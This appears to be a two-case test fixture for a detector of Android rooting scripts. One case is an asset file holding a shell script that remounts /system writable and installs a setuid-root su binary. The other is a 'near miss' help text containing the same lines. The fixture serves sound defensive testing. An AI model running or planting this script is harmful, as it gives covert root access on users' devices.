file("assets/r", "#!/system/bin/sh\nmount -o remount,rw /system\ncat su > /system/xbin/su\nchmod 06755 /system/xbin/su\n")

# near miss: a help text with the same lines
file("assets/r", "How to:\n#!/system/bin/sh\nmount -o remount,rw /system\ncat su > /system/xbin/su\nchmod 06755 /system/xbin/su\n")
